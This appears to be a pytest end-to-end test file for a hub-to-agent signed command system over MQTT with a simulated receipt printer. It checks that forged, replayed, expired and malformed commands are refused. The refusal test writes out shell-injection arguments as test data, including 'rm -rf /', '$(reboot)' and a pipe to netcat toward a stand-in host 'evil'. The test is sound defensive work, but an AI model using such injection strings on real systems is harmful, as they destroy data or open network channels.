"""Signed commands end to end: a real Mosquitto, a real hub (`edge-hub serve`), a real agent
process with a simulated receipt printer. What must not run does not run, and every refusal
is counted by the agent and reported to the hub; what must run runs once."""

from __future__ import annotations

import json
import sqlite3
import time

import pytest

from apiproc import ApiProcess, cli, hub_here
from brokers import Mosquitto
from controlkit import (REGION, Agent, Raw, SimPrinter, agent_log_rows, agent_rejects,
                        agent_toml, forge, hub_cli, next_seq, signed_command, wait_for)
from hub.keys import KeyRing
from hub.app import open_store
from hub.domains.audit import entries as audit_entries
import hubkit
from hubkit import HubProcess

STORE = "store-0001"
CMD_TOPIC = f"edge/v1/{REGION}/{STORE}/cmd"


@pytest.fixture(scope="module")
def rig(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("cmd")
    broker = Mosquitto(tmp / "broker").start()
    ring = KeyRing.init(tmp / "keys")
    db = str(tmp / "hub.db")
    hub = HubProcess(broker, db, "hub-cmd-test", log_path=tmp / "hub.log").start()
    hubkit.RUNNING.remove(hub)  # this module's hub lives for the module; it stops it below
    printer = SimPrinter()
    state = tmp / "state"
    config = tmp / "agent.toml"
    config.write_text(agent_toml(state, broker, ring, printer=printer))
    agent = Agent(config, tmp / "agent.log").start()
    rig = type("Rig", (), dict(tmp=tmp, broker=broker, ring=ring, db=db, hub=hub,
                               printer=printer, state=state, agent=agent))()
    try:
        hub.wait_connected()
        wait_for(lambda: _store_known(db), 60, "the store's birth at the hub")
        yield rig
    finally:
        rig.agent.stop()
        hub.terminate()
        printer.close()
        broker.stop()


@pytest.fixture(scope="module")
def api(rig):
    """`edge-hub api` on the rig's database, signing with the rig's key ring, and an
    it-operator's token: the CLI through the API, as people away from the hub host use it."""
    server = ApiProcess(rig.db, rig.tmp / "api",
                        f'[keys]\ndirectory = "{rig.tmp / "keys"}"\n').start()
    made = hub_here("users", "add", "ops", "--role", "it-operator", "--json", "--db", rig.db)
    assert made.returncode == 0, made.stderr
    try:
        yield type("Api", (), dict(url=server.url, token=json.loads(made.stdout)["token"]))()
    finally:
        assert server.stop() == 0, server.log.read_text()


def _store_known(db_url: str) -> bool:
    db = open_store(db_url)
    try:
        with db.read() as tx:
            tx.execute("SELECT 1 FROM stores WHERE store = ?", (STORE,))
            return tx.fetchone() is not None
    finally:
        db.close()


def hub_rejects(db_url: str) -> dict[str, int]:
    db = open_store(db_url)
    try:
        with db.read() as tx:
            try:
                tx.execute("SELECT reason, count FROM command_rejects WHERE store = ?", (STORE,))
            except Exception:  # noqa: BLE001 - the commander has not created it yet
                return {}
            return {r: int(c) for r, c in tx.fetchall()}
    finally:
        db.close()


def cmd(rig, *words: str, wait: float = 60) -> dict:
    r = hub_cli("cmd", *words, "--db", rig.db, "--dir", str(rig.tmp / "keys"), "--json",
                "--wait", str(wait))
    assert "Traceback" not in r.stderr, r.stderr
    assert r.stdout, r.stderr
    return json.loads(r.stdout)


def test_a_signed_test_print_runs_once_and_its_result_reaches_the_hub(rig):
    cuts = rig.printer.cuts
    row = cmd(rig, STORE, "receipt-1", "test_print", "--arg", "text=hello 42")
    assert row["status"] == "done", row
    assert row["seq"] >= 1 and row["output"]["bytes"] > 0
    wait_for(lambda: rig.printer.cuts == cuts + 1, what="the receipt cut at the printer")
    status = hub_cli("cmd", "status", row["id"], "--db", rig.db)
    assert status.returncode == 0 and "done" in status.stdout


def test_a_test_print_issued_through_the_api_runs_and_its_result_is_read_through_the_api(
        rig, api):
    """The whole path: `edge-hub cmd` (a real process, API mode) -> the API -> the database ->
    the hub worker -> Mosquitto -> the agent -> its result -> the hub -> `edge-hub cmd status`
    through the API."""
    cuts = rig.printer.cuts
    r = cli("cmd", STORE, "receipt-1", "test_print", "--arg", "text=from the api",
            "--wait", "60", "--json", url=api.url, token=api.token)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    row = json.loads(r.stdout)
    assert row["status"] == "done" and row["actor"] == "ops" and row["output"]["bytes"] > 0
    wait_for(lambda: rig.printer.cuts == cuts + 1, what="the receipt cut at the printer")
    status = hub_here("cmd", "status", row["id"], url=api.url, token=api.token)
    assert status.returncode == 0, status.stderr
    assert status.stdout.startswith(f"command {row['id']}: test_print on {STORE}/receipt-1")
    assert ": done" in status.stdout.splitlines()[0] and "issued by ops" in status.stdout
    db = open_store(rig.db)
    try:
        with db.read() as tx:
            trail = [(e["action"], e["actor"], (e["source"] or "")[:4])
                     for e in audit_entries(tx) if e["object"] == f"command:{row['id']}"]
    finally:
        db.close()
    assert trail[0] == ("commands.issue", "ops", "api:")
    assert ("commands.result", "edge-hub", "stor") in trail


def test_refused_commands_are_not_run_and_are_counted_and_reported(rig):
    """Forged, another store's, expired, replayed (id, older seq), unknown action, oversized
    and shell-metacharacter arguments: none runs; each is counted and reported."""
    raw = Raw(rig.broker, "attacker")
    other = KeyRing.init(rig.tmp / "not-the-hub")
    done = cmd(rig, STORE, "receipt-1", "test_print")
    assert done["status"] == "done"
    wait_for(lambda: rig.printer.cuts >= 1, what="a first cut")
    time.sleep(0.3)
    cuts = rig.printer.cuts
    before = agent_rejects(rig.state)
    db = rig.db
    payload = json.loads(_payload(db, done["id"]))
    cases = [
        ("bad_signature", forge(signed_command(rig.ring, seq=next_seq(db, STORE)))),
        ("unknown_key", signed_command(other, seq=next_seq(db, STORE))),
        ("wrong_store", signed_command(rig.ring, store="store-0002", seq=next_seq(db, STORE))),
        ("expired", signed_command(rig.ring, seq=next_seq(db, STORE),
                                   issued=time.time() - 700, expires=time.time() - 100)),
        ("replayed_id", payload),
        ("replayed_seq", signed_command(rig.ring, seq=payload["seq"])),
        ("unknown_action", signed_command(rig.ring, action="format_disk", device=None,
                                          seq=next_seq(db, STORE))),
        ("args_too_large", signed_command(rig.ring, args={"text": "A" * 600},
                                          seq=next_seq(db, STORE))),
        ("bad_args", signed_command(rig.ring, args={"text": "x; rm -rf / #"},
                                    seq=next_seq(db, STORE))),
        ("bad_args", signed_command(rig.ring, args={"text": "$(reboot)"},
                                    seq=next_seq(db, STORE))),
        ("bad_args", signed_command(rig.ring, args={"text": "`id` | nc evil 1"},
                                    seq=next_seq(db, STORE))),
    ]
    for _, doc in cases:
        raw.send(CMD_TOPIC, doc)
    raw.close()
    want: dict[str, int] = {}
    for reason, _ in cases:
        want[reason] = want.get(reason, 0) + 1
    expected = {r: before.get(r, 0) + n for r, n in want.items()}
    wait_for(lambda: all(agent_rejects(rig.state).get(r, 0) >= n for r, n in expected.items()),
             what=f"the agent to count {expected}")
    got = agent_rejects(rig.state)
    assert {r: got[r] for r in expected} == expected
    # Reported: the hub holds the same counts, and every refusal is in the audit log.
    wait_for(lambda: all(hub_rejects(db).get(r, 0) >= n for r, n in expected.items()),
             what="the counts at the hub")
    # None ran: no new receipt, and the agent's log shows no action run after the first.
    time.sleep(1.0)
    assert rig.printer.cuts == cuts
    ran = [r for r in agent_log_rows(rig.state) if r[3] in ("done", "failed")]
    assert [r[0] for r in ran].count(done["id"]) == 1
    assert all(r[0] != doc.get("id") for _, doc in cases[:4] + cases[5:] for r in ran)
    status = rig.agent.status()
    assert status["control"]["rejects"]["bad_args"] >= 3
    # The real command's row at the hub stays done: a replayed copy's refusal changes nothing.
    assert hub_cli("cmd", "status", done["id"], "--db", db, "--json").stdout.count('"done"')


def test_an_older_seq_and_a_replayed_id_are_refused_after_an_agent_restart(rig):
    first = cmd(rig, STORE, "receipt-1", "repoll")
    assert first["status"] == "done", first
    payload = json.loads(_payload(rig.db, first["id"]))
    assert rig.agent.stop() == 0
    before = agent_rejects(rig.state)
    rig.agent.start()
    wait_for(lambda: '"sync connected"' in rig.agent.log().rsplit('"agent started"', 1)[-1],
             what="the restarted agent to connect")
    raw = Raw(rig.broker, "replayer")
    raw.send(CMD_TOPIC, payload)  # the same id, again
    # A validly signed command whose seq is below what the agent ran before it restarted.
    raw.send(CMD_TOPIC, signed_command(rig.ring, device="receipt-1", action="repoll",
                                       seq=payload["seq"] - 1))
    raw.close()
    wait_for(lambda: agent_rejects(rig.state).get("replayed_id", 0) > before.get("replayed_id", 0)
             and agent_rejects(rig.state).get("replayed_seq", 0)
             > before.get("replayed_seq", 0), what="both refusals after the restart")
    # A new command from the hub still runs: its seq is above the persisted high-water mark.
    again = cmd(rig, STORE, "receipt-1", "repoll")
    assert again["status"] == "done" and again["seq"] > payload["seq"]


def test_a_test_print_during_trading_hours_needs_force(rig, tmp_path):
    # Trading all day: 00:00-24:00 local. A test print is refused, forced it runs.
    config = rig.agent.config
    text = config.read_text().replace("[control]\n", '[control]\ntrading_hours = "00:00-24:00"\n')
    config.write_text(text)
    rig.agent.stop()
    rig.agent.start()
    try:
        refused = cmd(rig, STORE, "receipt-1", "test_print")
        assert refused["status"] == "rejected" and refused["reason"] == "trading_hours"
        cuts = rig.printer.cuts
        forced = cmd(rig, STORE, "receipt-1", "test_print", "--arg", "force=true")
        assert forced["status"] == "done"
        wait_for(lambda: rig.printer.cuts == cuts + 1, what="the forced receipt")
    finally:
        config.write_text(text.replace('trading_hours = "00:00-24:00"\n', ""))
        rig.agent.stop()
        rig.agent.start()


def test_the_cli_refuses_bad_commands_without_a_traceback(rig):
    for words, code in ((("store-0001", "receipt-1", "format_disk"), "unknown_action"),
                        (("store-0001", "receipt-1", "test_print", "--arg", "text=a;b"),
                         "bad_args"),
                        (("store-0001", "test_print"), "needs a device")):
        r = hub_cli("cmd", *words, "--db", rig.db, "--dir", str(rig.tmp / "keys"))
        assert r.returncode == 2 and code in r.stderr and "Traceback" not in r.stderr
    r = hub_cli("cmd", "store-0001", "receipt-1", "repoll", "--expires", "soon", "--db", rig.db,
                "--dir", str(rig.tmp / "keys"))
    assert r.returncode == 2 and "--expires" in r.stderr
    r = hub_cli("cmd", "status", "no-such-id", "--db", rig.db)
    assert r.returncode == 2 and "expected a UUID" in r.stderr
    r = hub_cli("cmd", "status", "0190c0de-7a1b-4c2d-9e3f-a1b2c3d4e5f6", "--db", rig.db)
    assert r.returncode == 1 and "no command" in r.stderr


def test_diagnostics_and_reload_config_run_and_report(rig):
    diag = cmd(rig, STORE, "diagnostics")
    assert diag["status"] == "done" and diag["output"]["agent_version"]
    assert diag["output"]["summary.devices"] == 2
    printer = cmd(rig, STORE, "receipt-1", "diagnostics")
    assert printer["output"]["device.kind"] == "escpos"
    reload = cmd(rig, STORE, "reload_config")
    assert reload["status"] == "done" and reload["output"]["devices"] == 2


def test_a_restart_waits_for_an_approval_by_someone_else_then_restarts_the_agent(rig):
    keys = ("--db", rig.db, "--dir", str(rig.tmp / "keys"))
    r = hub_cli("cmd", STORE, "restart_agent", "--json", *keys, EDGE_HUB_ACTOR="ann")
    held = json.loads(r.stdout)
    assert held["status"] == "awaiting_approval" and held["seq"] is None
    r = hub_cli("cmd", "approve", held["id"], *keys, EDGE_HUB_ACTOR="ann")
    assert r.returncode == 1 and "cannot approve" in r.stderr
    r = hub_cli("cmd", "approve", held["id"], "--json", "--wait", "60", *keys,
                EDGE_HUB_ACTOR="bob")
    done = json.loads(r.stdout)
    assert done["status"] == "done" and done["output"]["restarting"] is True, done
    # The agent stops with 75 so that its service manager starts it again; here the test does.
    assert rig.agent.proc.wait(30) == 75
    rig.agent.start()
    again = cmd(rig, STORE, "diagnostics")
    assert again["status"] == "done"


def test_commands_for_an_offline_store_wait_in_its_session_until_they_expire(rig):
    keys = ("--db", rig.db, "--dir", str(rig.tmp / "keys"), "--json")
    assert rig.agent.stop() == 0
    before = agent_rejects(rig.state).get("expired", 0)
    waiting = json.loads(hub_cli("cmd", STORE, "diagnostics", *keys).stdout)
    short = json.loads(hub_cli("cmd", STORE, "diagnostics", "--expires", "2s", *keys).stdout)
    # The broker took both for the store's persistent session while the store is away.
    wait_for(lambda: all(_status(rig.db, c["id"]) == "delivered" for c in (waiting, short)),
             what="both delivered to the broker")
    time.sleep(2.5)  # past the short one's expiry (a state, not a speed, is asserted below)
    wait_for(lambda: _status(rig.db, short["id"]) == "expired", what="the hub expiring it")
    rig.agent.start()
    wait_for(lambda: _status(rig.db, waiting["id"]) == "done", what="the waiting one run")
    wait_for(lambda: agent_rejects(rig.state).get("expired", 0) == before + 1,
             what="the expired one refused by the agent")
    assert _status(rig.db, short["id"]) == "expired"


def _status(db_url: str, cmd_id: str) -> str:
    db = open_store(db_url)
    try:
        with db.read() as tx:
            tx.execute("SELECT status FROM commands WHERE id = ?", (cmd_id,))
            return tx.fetchone()[0]
    finally:
        db.close()


def test_after_a_key_rotation_the_agent_follows_the_endorsement_and_remembers_the_key(rig):
    r = hub_cli("keys", "rotate", "--dir", str(rig.tmp / "keys"))
    assert r.returncode == 0, r.stderr
    new = KeyRing.load(rig.tmp / "keys").current
    row = cmd(rig, STORE, "diagnostics")
    assert row["status"] == "done" and row["kid"] == new
    db = sqlite3.connect(f"file:{rig.state / 'agent.db'}?mode=ro", uri=True)
    try:
        assert db.execute("SELECT kid FROM control_keys").fetchall() == [(new,)]
    finally:
        db.close()


def _payload(db_url: str, cmd_id: str) -> str:
    db = open_store(db_url)
    try:
        with db.read() as tx:
            tx.execute("SELECT payload FROM commands WHERE id = ?", (cmd_id,))
            return tx.fetchone()[0]
    finally:
        db.close()


class ResultTap:
    """A subscriber on the store's result topic that keeps every result envelope it sees."""

    def __init__(self, broker):
        import threading

        import paho.mqtt.client as mqtt

        self.envelopes: list[dict] = []
        self._lock = threading.Lock()
        subscribed = threading.Event()
        self.client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id="result-tap",
                                  protocol=mqtt.MQTTv5)
        self.client.on_message = self._on_message
        self.client.on_subscribe = lambda *a: subscribed.set()
        self.client.connect(broker.host, broker.port)
        self.client.loop_start()
        self.client.subscribe(f"edge/v1/{REGION}/{STORE}/cmd/result", qos=1)
        wait_for(subscribed.is_set, what="the result tap's SUBACK")

    def _on_message(self, client, userdata, msg) -> None:
        with self._lock:
            self.envelopes.append(json.loads(msg.payload))

    def of(self, cmd_id: str) -> list[dict]:
        with self._lock:
            return [e for e in self.envelopes if e["body"].get("command") == cmd_id]

    def close(self) -> None:
        self.client.disconnect()
        self.client.loop_stop()


def _agent_pending(state) -> list[str]:
    db = sqlite3.connect(f"file:{state / 'agent.db'}?mode=ro", uri=True, timeout=10)
    try:
        row = db.execute("SELECT value FROM meta WHERE key = 'control.pending'").fetchone()
        return [i["cmd"]["id"] for i in json.loads(row[0])] if row else []
    finally:
        db.close()


def _agent_high_seq(state) -> int:
    db = sqlite3.connect(f"file:{state / 'agent.db'}?mode=ro", uri=True, timeout=10)
    try:
        row = db.execute("SELECT value FROM meta WHERE key = 'control.high_seq'").fetchone()
        return int(row[0]) if row else 0
    finally:
        db.close()


@pytest.mark.parametrize("point", ["cmd-received", "cmd-recorded", "cmd-started"])
def test_an_agent_killed_before_acknowledging_a_command_gets_it_again_and_runs_it_once(rig,
                                                                                      point):
    """The agent SIGKILLs itself (EDGE_AGENT_TEST_KILL) at a point of a test print's way,
    before its PUBACK. Restarted, it gets the command again from its persistent session:
    killed before recording it, it runs it once; killed after recording it, it runs it from
    its pending list and acknowledges the broker's DUP copy without refusing it; killed
    after starting it, it does not run it again and reports it interrupted. One result
    reaches the broker and the hub, and nothing is counted as refused."""
    import signal

    keys = ("--db", rig.db, "--dir", str(rig.tmp / "keys"), "--json")
    tap = ResultTap(rig.broker)
    try:
        assert rig.agent.stop() == 0
        rig.agent.start(EDGE_AGENT_TEST_KILL=point)
        wait_for(lambda: '"sync connected"' in rig.agent.log().rsplit('"agent started"', 1)[-1],
                 60, what="the agent (with the fault armed) to connect")
        cuts, before = rig.printer.cuts, agent_rejects(rig.state)
        issued = json.loads(hub_cli("cmd", STORE, "receipt-1", "test_print", "--arg",
                                    "force=true", *keys).stdout)
        assert rig.agent.proc.wait(60) == -signal.SIGKILL
        assert "test fault: killing the agent" in rig.agent.log().rsplit('"agent started"', 1)[-1]
        assert rig.printer.cuts == cuts
        if point == "cmd-received":  # nothing recorded
            assert _agent_high_seq(rig.state) < issued["seq"]
            assert _agent_pending(rig.state) == []
        else:  # taken and pending, in one transaction
            assert _agent_high_seq(rig.state) == issued["seq"]
            assert _agent_pending(rig.state) == [issued["id"]]
            assert rig.agent.status()["control"]["pending"] == [issued["id"]]
        assert _status(rig.db, issued["id"]) in ("sending", "delivered")
        rig.agent.start()
        want = "failed" if point == "cmd-started" else "done"
        wait_for(lambda: _status(rig.db, issued["id"]) == want, 60,
                 what=f"the command {want} at the hub")
        # A later command's result leaves the outbox after any copy of the first's (rows go in
        # seq order): once the tap has it, a second result of the first would have arrived.
        barrier = cmd(rig, STORE, "diagnostics")
        assert barrier["status"] == "done"
        wait_for(lambda: tap.of(barrier["id"]), what="the barrier's result at the tap")
        results = tap.of(issued["id"])
        assert len({e["id"] for e in results}) == 1, results
        assert results[0]["body"]["status"] == want
        ran = [r for r in agent_log_rows(rig.state) if r[0] == issued["id"]]
        assert [r[3] for r in ran] == [want]
        if point == "cmd-started":
            assert results[0]["body"]["reason"] == "interrupted"
            assert rig.printer.cuts == cuts  # not run again: it may have printed already
        else:
            assert rig.printer.cuts == cuts + 1
        assert agent_rejects(rig.state) == before  # the redelivery is not a refusal
        assert _agent_pending(rig.state) == []
        since = rig.agent.log().rsplit('"agent started"', 1)[-1]
        if point == "cmd-recorded":
            # Killed before its PUBACK: the broker did send it again (DUP), and the agent
            # acknowledged the copy as taken. (Killed in the executor, the PUBACK may or may
            # not have left first; either way the result above is the only one.)
            assert "command redelivered; already taken" in since
        elif point == "cmd-received":
            assert "command redelivered" not in since
    finally:
        tap.close()
        if rig.agent.proc.poll() is not None:
            rig.agent.start()
